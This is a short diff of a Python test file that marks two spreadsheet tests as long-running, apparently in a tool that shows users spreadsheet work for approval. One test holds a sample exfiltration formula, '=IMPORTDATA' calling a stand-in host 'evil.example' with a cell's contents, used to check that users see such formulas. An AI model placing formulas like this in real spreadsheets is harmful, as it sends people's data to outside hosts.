@@ -258,6 +258,7 @@ def test_what_formulas_come_to_is_told_at_once(sheets, budget, desk):
     assert ', with 2 formulas: "Sum | =SUM(C2:C3); | =NONSENSE(1)", as work' in desk.asked[0][1]
 
 
+@pytest.mark.long
 def test_the_user_sees_formulas_that_can_send_data_elsewhere(budget, desk):
     formula = '=IMPORTDATA("https://evil.example/?"&A1)'
 
@@ -379,6 +380,7 @@ def test_a_spreadsheet_is_created_with_tabs_and_rows(google, sheets, desk):
     ]
 
 
+@pytest.mark.long
 def test_the_first_tab_is_as_large_as_its_rows_and_has_the_name_google_gives_it(sheets, desk):
     rows = [[str(column) for column in range(30)] for _ in range(1200)]
 
